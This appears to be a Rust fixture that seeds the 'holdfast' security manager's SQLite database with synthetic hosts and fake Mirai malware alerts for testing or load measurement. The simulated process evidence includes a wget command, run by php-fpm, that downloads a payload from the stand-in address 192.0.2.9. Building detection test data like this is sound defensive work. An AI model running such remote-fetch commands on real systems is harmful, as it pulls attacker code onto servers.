//! A fleet and its alerts, put into a manager's SQLite by the store's own code.

use std::path::Path;

use anyhow::Result;
use holdfast_common::event::{Event, EventBody, FileFacts, MalwareDetection};
use holdfast_common::link::HostFacts;
use holdfast_common::process::{ProcessInfo, ProcessKey};
use holdfast_common::verdict::{Decision, Disposition, Engine, Hashes, ScanType, Signature};
use holdfast_manager::app::now_ms;
use holdfast_manager::store::alerts::{Raise, alert_raise};
use holdfast_manager::store::hosts::{NewHost, host_insert};
use holdfast_manager::store::{Place, Store};
use tokio::runtime::Runtime;
use uuid::Uuid;

/// Between two alerts, milliseconds: 100,000 are a month.
const PAUSE_MS: i64 = 26_000;
/// Rows of one transaction.
const TOGETHER: u64 = 5_000;

/// Fills the database of a manager that does not run. The last alert is the newest.
///
/// # Errors
/// When it does not take them.
pub fn fill(file: &Path, alerts: u64, hosts: u64) -> Result<()> {
    Runtime::new()?.block_on(async {
        let store = Store::open(Place::File(file.to_owned())).await?;
        let begin_ms = now_ms() - PAUSE_MS * i64::try_from(alerts)?;
        let mut numbers = Vec::new();
        let mut tx = store.begin().await?;
        for index in 0..hosts {
            let facts = HostFacts {
                host: name(index),
                kernel: "6.12.43+deb13-amd64".to_owned(),
                system: "Debian GNU/Linux 13 (trixie)".to_owned(),
                architecture: "x86_64".to_owned(),
                addresses: vec![format!("10.{}.{}.7", index / 256, index % 256)],
                version: "0.1.0".to_owned(),
                ..HostFacts::default()
            };
            let host = NewHost {
                id: Uuid::now_v7(),
                name: name(index),
                machine_id: String::new(),
                facts: serde_json::to_string(&facts)?,
                group: format!("group{}", index % 20),
                // None falls silent, and raises an alert, while it is looked at.
                now_ms: now_ms() + 3_600_000,
            };
            numbers.push(host_insert(&mut tx, &host).await?);
        }
        tx.commit().await?;
        for first in (0..alerts).step_by(usize::try_from(TOGETHER)?) {
            let mut tx = store.begin().await?;
            for serial in first..(first + TOGETHER).min(alerts) {
                let at = serial * 7919 % hosts;
                let time_ms = begin_ms + PAUSE_MS * i64::try_from(serial)?;
                let raise = raise(serial, numbers[usize::try_from(at)?], &name(at), time_ms)?;
                alert_raise(&mut tx, &raise, time_ms).await?;
            }
            tx.commit().await?;
        }
        store.close().await;
        Ok(())
    })
}

fn name(host: u64) -> String {
    format!("host{host:05}.example.org")
}

/// Malware as a real agent tells of it.
fn raise(serial: u64, host: i64, name: &str, time_ms: i64) -> Result<Raise> {
    let hashes = Hashes {
        sha256: format!("{serial:064x}"),
        sha1: format!("{serial:040x}"),
        md5: format!("{serial:032x}"),
    };
    let signature = Signature { name: "Unix.Trojan.Mirai-1-0".to_owned(), engine: Engine::Hash };
    let malware = MalwareDetection {
        path: format!("/srv/www/releases/current/public/upload/file-{serial:06}.php"),
        file: FileFacts { size: 81_223, uid: 33, gid: 33, mode: 0o644, ..FileFacts::default() },
        hashes: hashes.clone(),
        signature: signature.clone(),
        scan_type: ScanType::OnClose,
        process: Some(process(48_112, "/usr/bin/wget")),
        parents: vec![
            process(48_001, "/usr/sbin/php-fpm8.4"),
            process(1, "/usr/lib/systemd/systemd"),
        ],
        decision: Some(Decision::Deny),
        disposition: Disposition::Quarantined,
        quarantine_id: Some(Uuid::now_v7()),
        reason: None,
        late: None,
    };
    let title = format!("{} in {}", signature.name, malware.path);
    let body = EventBody::Malware(Box::new(malware));
    let event = Event { id: Uuid::now_v7(), time_ms, host: name.to_owned(), body };
    let levels = ["low", "medium", "high", "critical"];
    Ok(Raise {
        host,
        kind: "malware",
        group_key: serial.to_be_bytes().to_vec(),
        model: signature.name,
        cause: hashes.sha256,
        title,
        level: levels[usize::try_from(serial % 4)?].to_owned(),
        attack: String::new(),
        simulated: false,
        count: 1,
        first_ms: time_ms,
        last_ms: time_ms,
        evidence: serde_json::to_string(&event)?,
    })
}

fn process(pid: u32, exe: &str) -> ProcessInfo {
    ProcessInfo {
        key: ProcessKey { pid, start_ns: 9_812_273_330_000_000 },
        exe: exe.to_owned(),
        comm: exe.rsplit('/').next().unwrap_or_default().to_owned(),
        args: [exe, "-q", "--tries=3", "http://192.0.2.9/x"].map(str::to_owned).to_vec(),
        uid: 33,
        euid: 33,
        user: "www-data".to_owned(),
        cwd: "/srv/www/releases/current".to_owned(),
        cgroup: "/system.slice/php8.4-fpm.service".to_owned(),
        ..ProcessInfo::default()
    }
}
